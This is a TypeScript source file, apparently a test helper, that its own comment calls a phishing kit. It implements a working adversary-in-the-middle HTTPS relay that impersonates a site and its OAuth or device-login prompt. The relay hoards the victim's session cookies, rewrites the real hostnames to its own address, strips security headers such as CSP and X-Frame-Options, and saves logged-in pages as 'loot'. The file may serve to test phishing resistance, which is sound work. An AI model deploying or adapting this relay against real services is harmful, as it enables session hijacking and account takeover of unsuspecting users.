import { readFileSync } from 'node:fs';
import { request as askHttp, type IncomingMessage } from 'node:http';
import { request as askHttps, createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import type { makeTrust } from '../driver/trust.ts';

/** What a relay does to what passes through it. */
const DROPPED = [
  'content-length',
  'content-security-policy',
  'set-cookie',
  'x-frame-options',
  'transfer-encoding',
];

/**
 * A phishing kit: one host of its own that relays the site and the service's prompt to the victim, keeps the cookies
 * for itself, and writes its own address wherever theirs stood. `name`: what its host is called, on this machine.
 */
export async function openRelay(
  targets: { service: string; site: string },
  { files, name = '127.0.0.1' }: Pick<ReturnType<typeof makeTrust>, 'files'> & { name?: string },
) {
  const jar = new Map<string, string>();
  /** What came back from the site: the loot. */
  const loot: string[] = [];

  const ownedBy = (path: string) =>
    /^\/(oauth|prompt|assets|device|health)/.test(path) ? targets.service : targets.site;
  const disguise = (words: string) => words.replaceAll(targets.service, base).replaceAll(targets.site, base);

  function pass(incoming: IncomingMessage, body: string): Promise<IncomingMessage> {
    const target = ownedBy(incoming.url ?? '/');
    const { host: _host, cookie: _cookie, ...headers } = incoming.headers;
    const options = {
      method: incoming.method ?? 'GET',
      headers: {
        ...headers,
        'accept-encoding': 'identity',
        cookie: [...jar].map(([name, value]) => `${name}=${value}`).join('; '),
        ...(headers.origin && { origin: targets.service }),
        ...(headers.referer && { referer: headers.referer.replace(base, target) }),
      },
      ca: readFileSync(files.ca),
    };
    return new Promise((resolve, reject) => {
      const ask = target.startsWith('https:') ? askHttps : askHttp;
      ask(target + incoming.url, options, resolve)
        .on('error', reject)
        .end(body);
    });
  }

  const server = createServer(
    { cert: readFileSync(files.certificate), key: readFileSync(files.key) },
    async (incoming, outgoing) => {
      try {
        const answer = await pass(incoming, await text(incoming));
        for (const cookie of answer.headers['set-cookie'] ?? []) {
          const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(cookie) ?? [];
          jar.set(name, value);
        }
        const body = disguise(await text(answer));
        if (body.includes('Welcome')) loot.push(body);
        const kept = Object.entries(answer.headers).filter(([name]) => !DROPPED.includes(name));
        const headers = kept.map(([name, value]) => [name, disguise(String(value))]);
        outgoing.writeHead(answer.statusCode ?? 502, Object.fromEntries(headers)).end(body);
      } catch {
        outgoing.writeHead(502).end();
      }
    },
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const host = `${name}:${(server.address() as AddressInfo).port}`;
  const base = `https://${host}`;

  return {
    host,
    base,
    loot,
    close() {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}
